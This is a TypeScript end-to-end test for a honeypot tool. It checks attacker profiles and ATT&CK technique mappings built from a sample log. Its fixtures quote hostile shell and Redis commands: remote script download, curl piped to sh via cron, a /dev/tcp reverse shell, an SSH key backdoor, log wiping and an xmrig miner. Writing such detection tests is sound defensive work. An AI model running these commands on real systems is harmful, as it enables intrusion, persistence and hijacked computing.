// End to end, as an operator would: `decnet ingest` the shipped sample log,
// `decnet fleet heavy --once`, then `decnet attackers` / `attackers show`.
// Every profile and technique below is worked out by hand from
// samples/decnet-sample.log (line numbers in the comments).
import assert from 'node:assert/strict'
import {chmodSync, chownSync, mkdtempSync, readdirSync, rmSync} from 'node:fs'
import {join} from 'node:path'
import {describe, it, type TestContext} from 'node:test'

import {freshDatabase, skipReason} from '../helpers/databases.js'
import {EXIT, REPO, dataDirEnv, runDecnet, unwrap} from '../helpers/decnet-cli.js'

const SAMPLE = join(REPO, 'samples', 'decnet-sample.log')
const NOBODY = 65_534
const TIMEOUT_MS = 120_000

const command = (timestamp: string, decky: string, service: string, text: string) => ({timestamp, decky, service, command: text})
const technique = (techniqueId: string, tactic: string, count = 1) => ({techniqueId, tactic, count})

/** The profiles, most recently seen first (the order `decnet attackers` lists them in). */
const EXPECTED = [
  {
    // lines 1-7 (six failed SSH logins, then one that works), 9-16 (a shell session), 40-42 (telnet on decky-03)
    ip: '203.0.113.7',
    firstSeen: '2026-11-20T08:14:02.114Z',
    lastSeen: '2026-11-20T15:00:12.800Z',
    eventCount: 18,
    services: ['ssh', 'telnet'],
    deckies: ['decky-01', 'decky-03'],
    isTraversal: true,
    traversalPath: 'decky-01 -> decky-03',
    commands: [
      command('2026-11-20T08:17:04.551Z', 'decky-01', 'ssh', 'uname -a'),
      command('2026-11-20T08:17:09.002Z', 'decky-01', 'ssh', 'cat /etc/passwd'),
      command('2026-11-20T08:17:21.773Z', 'decky-01', 'ssh', 'wget http://198.51.100.9/x.sh -O /tmp/x.sh'),
      command('2026-11-20T08:17:25.140Z', 'decky-01', 'ssh', 'chmod +x /tmp/x.sh'),
      command('2026-11-20T08:17:36.909Z', 'decky-01', 'ssh', '(crontab -l 2>/dev/null; echo "*/5 * * * * /tmp/x.sh") | crontab -'),
      command('2026-11-20T08:17:44.328Z', 'decky-01', 'ssh', 'echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDf3x9 backdoor@kali" >> ~/.ssh/authorized_keys'),
      command('2026-11-20T08:17:51.615Z', 'decky-01', 'ssh', 'history -c'),
      command('2026-11-20T15:00:07.250Z', 'decky-03', 'telnet', 'cat /etc/shadow'),
      command('2026-11-20T15:00:12.800Z', 'decky-03', 'telnet', 'rm -rf /var/log/wtmp /var/log/btmp'),
    ],
    // lines 1-7 and 40 (the logout on line 16 is not an authentication)
    authAttempts: 8,
    techniques: [
      technique('T1003.008', 'TA0006', 2), // cat /etc/passwd, cat /etc/shadow
      technique('T1053.003', 'TA0003'), // crontab -
      technique('T1070.002', 'TA0005'), // rm -rf /var/log/wtmp ...
      technique('T1070.003', 'TA0005'), // history -c
      technique('T1078', 'TA0001'), // the login that succeeded after the brute force (line 7)
      technique('T1082', 'TA0007'), // uname -a
      technique('T1087.001', 'TA0007'), // cat /etc/passwd
      technique('T1098.004', 'TA0003'), // >> ~/.ssh/authorized_keys
      technique('T1105', 'TA0011'), // wget http://...
      technique('T1110', 'TA0006'), // the brute force that login followed
      technique('T1110.001', 'TA0006'), // the 5th failed login within five minutes (line 5)
      technique('T1222.002', 'TA0005'), // chmod +x
    ],
  },
  {
    // lines 34-39: MySQL then Redis, two deckies
    ip: '192.0.2.200',
    firstSeen: '2026-11-20T13:45:10.010Z',
    lastSeen: '2026-11-20T13:47:02.450Z',
    eventCount: 6,
    services: ['mysql', 'redis'],
    deckies: ['decky-06', 'decky-07'],
    isTraversal: true,
    traversalPath: 'decky-06 -> decky-07',
    commands: [
      command('2026-11-20T13:45:12.660Z', 'decky-06', 'mysql', 'SELECT @@version_comment LIMIT 1'),
      command('2026-11-20T13:45:14.300Z', 'decky-06', 'mysql', "select load_file('/etc/shadow')"),
      command('2026-11-20T13:47:01.000Z', 'decky-07', 'redis', 'CONFIG SET dir /var/spool/cron/crontabs'),
      command('2026-11-20T13:47:01.900Z', 'decky-07', 'redis', String.raw`SET x "\n*/1 * * * * curl -fsSL http://198.51.100.9/r.sh | sh\n"`),
      command('2026-11-20T13:47:02.450Z', 'decky-07', 'redis', 'SAVE'),
    ],
    authAttempts: 1, // line 34
    techniques: [
      technique('T1053.003', 'TA0003', 2), // CONFIG SET dir /var/spool/cron/..., a crontab line stored in a key (database rules)
      technique('T1005', 'TA0009'), // load_file('/etc/shadow') (database rule)
    ],
  },
  {
    // lines 30-33: the logger form (timeQuality first), an SD-less line whose IP is in the message
    ip: '192.0.2.44',
    firstSeen: '2026-11-20T12:00:27.881Z',
    lastSeen: '2026-11-20T12:19:48.000Z',
    eventCount: 4,
    services: ['sshd'],
    deckies: ['decky-05'],
    isTraversal: false,
    traversalPath: null,
    commands: [],
    authAttempts: 4,
    techniques: [], // four failures in 19 minutes is not brute force (five within five minutes)
  },
  {
    // lines 27-29: the IPv6 address written in capitals on line 27 is the same attacker
    ip: '2001:db8::bad:cafe',
    firstSeen: '2026-11-20T11:30:00.000Z',
    lastSeen: '2026-11-20T11:30:05.730Z',
    eventCount: 3,
    services: ['http'],
    deckies: ['decky-04'],
    isTraversal: false,
    traversalPath: null,
    commands: [], // `?cmd=id` in a URL path is not a command the attacker ran
    authAttempts: 1, // line 28
    techniques: [],
  },
  {
    // lines 17-26: offsets +01:00 and -05:00 put decky-02's lines first in time
    ip: '198.51.100.23',
    firstSeen: '2026-11-20T09:02:11.250Z',
    lastSeen: '2026-11-20T09:07:41.550Z',
    eventCount: 10,
    services: ['ssh', 'telnet', 'http'],
    deckies: ['decky-02', 'decky-03', 'decky-04'],
    isTraversal: true,
    traversalPath: 'decky-02 -> decky-03 -> decky-04',
    commands: [
      command('2026-11-20T09:02:20.431Z', 'decky-02', 'ssh', 'cat /proc/cpuinfo | grep name | wc -l'),
      command('2026-11-20T09:02:31.007Z', 'decky-02', 'ssh', 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'),
      command('2026-11-20T09:05:15.402Z', 'decky-03', 'telnet', 'cd /tmp; curl -sO http://198.51.100.9/xmrig-6.21.0-linux-x64.tar.gz && tar xzf xmrig-6.21.0-linux-x64.tar.gz'),
      command('2026-11-20T09:05:22.610Z', 'decky-03', 'telnet', './xmrig -o stratum+tcp://pool.example.net:3333 -u 4Adonation --donate-level 1 -B'),
    ],
    authAttempts: 3, // lines 18, 21, 22
    techniques: [
      technique('T1496', 'TA0040', 2), // xmrig download and run
      technique('T1059.004', 'TA0002'), // bash -i (two rules, one line: counted once)
      technique('T1082', 'TA0007'), // cat /proc/cpuinfo
      technique('T1095', 'TA0011'), // /dev/tcp reverse shell
      technique('T1105', 'TA0011'), // curl -sO http://...
    ],
  },
  {
    // lines 48-50: DECNET's credential shape on MySQL, SSH's auth-helper and SMTP, root/123456 twice;
    // 51-52: the host sniffer's SYN and SSH client banner fingerprints of it, on decky-01
    ip: '198.51.100.77',
    firstSeen: '2026-11-20T07:02:11.400Z',
    lastSeen: '2026-11-20T07:04:02.918Z',
    eventCount: 5,
    services: ['mysql', 'auth-helper', 'smtp'],
    deckies: ['decky-06', 'decky-01', 'decky-04'],
    isTraversal: true,
    traversalPath: 'decky-06 -> decky-01 -> decky-04',
    commands: [],
    authAttempts: 3,
    techniques: [technique('T1110.004', 'TA0006')], // root:123456 again on a second decky and service (credential stuffing)
  },
]

const credential = (principal: string, secretKind: string, secret: string, secretB64: string, secretSha256: string, service: string, decky: string, timestamp: string) => ({
  principal, secretKind, secret, secretB64, secretSha256, service, decky, domain: null, outcome: null, attempts: 1, firstSeen: timestamp, lastSeen: timestamp,
})
const ROOT_123456: [string, string, string, string, string] = ['root', 'plaintext', '123456', 'MTIzNDU2', '8d969eef6ecad3c29a3a629280e686cf0c3f5d5a86aff3ca12020c923adc6c92']

/** What `attackers show` adds: services interacted with or only scanned (commands are interactions; logins and requests scans), credentials. */
const SHOWN = {
  '203.0.113.7': {serviceActivity: {interacted: ['ssh', 'telnet'], scanned: []}},
  '192.0.2.200': {serviceActivity: {interacted: ['mysql', 'redis'], scanned: []}},
  '192.0.2.44': {serviceActivity: {interacted: [], scanned: ['sshd']}},
  '2001:db8::bad:cafe': {serviceActivity: {interacted: [], scanned: ['http']}},
  '198.51.100.23': {serviceActivity: {interacted: ['ssh', 'telnet'], scanned: ['http']}},
  '198.51.100.77': {
    serviceActivity: {interacted: [], scanned: ['auth-helper', 'mysql', 'smtp']},
    fingerprints: [{type: 'ssh_client_banner', value: 'SSH-2.0-Go', count: 1, firstSeen: '2026-11-20T07:03:39.870Z', lastSeen: '2026-11-20T07:03:39.870Z', details: {}}],
    // (the password lines of the other attackers are not DECNET's credential shape)
    credentials: [
      credential(...ROOT_123456, 'smtp', 'decky-04', '2026-11-20T07:04:02.918Z'),
      credential(...ROOT_123456, 'auth-helper', 'decky-01', '2026-11-20T07:03:40.022Z'),
      credential('root', 'mysql_native_password', '6a1b3c9d0e7f21a45b6c8d9e0f112233445566ff', 'ahs8nQ5/IaRbbI2eDxEiM0RVZv8=', 'c2f483915f67aa77103210d22fbf8c97a531818b6230697f12b4793420e219e4', 'mysql', 'decky-06', '2026-11-20T07:02:11.400Z'),
    ],
  },
}

/** A data directory (root's, searchable), removed after the test. */
function dataDir(t: TestContext): string {
  const dir = mkdtempSync('/tmp/decnet-e2e-')
  chmodSync(dir, 0o755) // searchable, so nobody can reach db/ inside it
  t.after(() => rmSync(dir, {force: true, recursive: true}))
  return dir
}

/** Hands the directory and the SQLite files in it to `nobody` (the fleet's children drop to it): the database's directory, as decnet advises, never the data directory. */
function giveToNobody(dir: string): void {
  chownSync(dir, NOBODY, NOBODY)
  for (const name of readdirSync(dir)) chownSync(join(dir, name), NOBODY, NOBODY)
}

type Env = ReturnType<typeof dataDirEnv>

async function ok(t: TestContext, args: string[], env: Env) {
  const result = await runDecnet(t, args, {env, timeoutMs: 60_000})
  assert.equal(result.code, EXIT.OK, `decnet ${args.join(' ')}\n${result.stdout}\n${result.stderr}`)
  return result
}

/** No GeoIP or ASN database is given: nothing is known of where an attacker is. */
const NO_GEO = {country: null, asn: null, asName: null}

/**
 * Each attacker's behaviour class on the sample (docs/profiles.md, "Behaviour"): the SSH and Telnet
 * intruder's gaps swing from seconds to hours (mixed); two cross services a minute or more apart (slow_scan).
 */
const CLASSES: Record<string, string> = {
  '192.0.2.200': 'slow_scan', '192.0.2.44': 'mixed', '198.51.100.23': 'slow_scan', '198.51.100.77': 'mixed', '2001:db8::bad:cafe': 'mixed', '203.0.113.7': 'mixed',
}

/** A profile as `attackers show` gives it (every command; its `behavior` is checked apart; no mail in the sample) and as a list gives it (the latest 10, and how many in all). */
const shownProfile = <P extends {commands: readonly unknown[]; ip: string}>(profile: P) => {
  const {credentials = [], fingerprints = [], serviceActivity} = (SHOWN as Record<string, {credentials?: unknown[]; fingerprints?: unknown[]; serviceActivity: unknown}>)[profile.ip]
  return {...profile, ...NO_GEO, behaviorClass: CLASSES[profile.ip], commandCount: profile.commands.length, credentials, credentialCount: credentials.length, fingerprints, fingerprintCount: fingerprints.length, serviceActivity, artifacts: [], sessions: [], mail: [], mailCount: 0, smtpTargets: [], smtpTargetCount: 0}
}
const listedProfile = <P extends {commands: readonly unknown[]; ip: string}>(profile: P) => ({...profile, ...NO_GEO, behaviorClass: CLASSES[profile.ip], commandCount: profile.commands.length, commands: profile.commands.slice(-10)})

async function assertProfiles(t: TestContext, env: Env, db: string[] = []): Promise<void> {
  const listed = JSON.parse((await ok(t, ['attackers', '--json', ...db], env)).stdout).attackers
  assert.deepEqual(listed, EXPECTED.map(listedProfile))
  for (const profile of EXPECTED) {
    const {behavior, ...shown} = JSON.parse((await ok(t, ['attackers', 'show', profile.ip, '--json', ...db], env)).stdout)
    assert.deepEqual(shown, shownProfile(profile))
    assert.equal(behavior.class, CLASSES[profile.ip])
    assert.ok(behavior.timing.eventCount >= 3 && behavior.timing.eventCount <= profile.eventCount, `${profile.ip}: ${behavior.timing.eventCount} events timed`)
    // the sniffer's SYN (line 51): its OS and distance; the other attackers reached no sniffer
    const os = profile.ip === '198.51.100.77' ? {guess: 'linux', hopDistance: 13} : {guess: null, hopDistance: null}
    assert.deepEqual({guess: behavior.os.guess, hopDistance: behavior.os.hopDistance}, os, profile.ip)
  }
}

describe('decnet ingest + fleet heavy --once + attackers, on the sample log', {timeout: TIMEOUT_MS}, () => {
  it('on the embedded default (SQLite): refuses root, runs as --user nobody, exact profiles and techniques', {skip: process.getuid?.() !== 0 && 'runs as root'}, async (t) => {
    const dir = dataDir(t)
    const env = dataDirEnv(dir)
    const ingested = JSON.parse((await ok(t, ['ingest', SAMPLE, '--json'], env)).stdout)
    assert.deepEqual([ingested.accepted, ingested.rejected], [47, 5]) // lines 8, 43, 44, 45, 46 are junk

    const refused = await runDecnet(t, ['fleet', 'heavy', '--once'], {env})
    assert.equal(refused.code, EXIT.PRIVILEGE_REFUSED, refused.stderr)
    assert.match(unwrap(refused.stderr), /refusing to run fleet 'heavy' as root.*--user NAME/)
    assert.deepEqual(JSON.parse((await ok(t, ['attackers', '--json'], env)).stdout).attackers, [], 'nothing ran')

    giveToNobody(join(dir, 'db'))
    const run = await ok(t, ['fleet', 'heavy', '--once', '--user', 'nobody'], env)
    assert.match(run.stdout, /^profiler \| profiled 47 lines: 6 attacker updates, 18 commands \(cursor 47\)$/m)
    await assertProfiles(t, env)
    const v6 = await ok(t, ['attackers', 'show', '2001:DB8:0:0::BAD:CAFE', '--json'], env)
    assert.equal(JSON.parse(v6.stdout).ip, '2001:db8::bad:cafe')

    // a second pass finds nothing new and changes nothing
    giveToNobody(join(dir, 'db'))
    const again = await ok(t, ['fleet', 'heavy', '--once', '--user', 'nobody'], env)
    assert.doesNotMatch(again.stdout, /profiled/)
    await assertProfiles(t, env)
  })

  it('on PostgreSQL (--db), with --allow-root', {skip: skipReason('postgres')}, async (t) => {
    const database = (await freshDatabase('postgres', t))
    t.after(() => database.cleanup())
    const env = dataDirEnv(dataDir(t))
    const db = ['--db', database.url]
    await ok(t, ['ingest', SAMPLE, ...db], env)
    const run = await ok(t, ['fleet', 'heavy', '--once', '--allow-root', ...db], env)
    // --allow-root warns only where there is root to allow; for an ordinary user it changes nothing
    const warning = /WARNING: running fleet 'heavy' as root because of --allow-root/
    if (process.getuid?.() === 0) assert.match(run.stderr, warning)
    else assert.doesNotMatch(run.stderr, warning)
    assert.match(run.stdout, /^profiler \| profiled 47 lines: 6 attacker updates, 18 commands \(cursor 47\)$/m)
    await assertProfiles(t, env, db)
  })
})
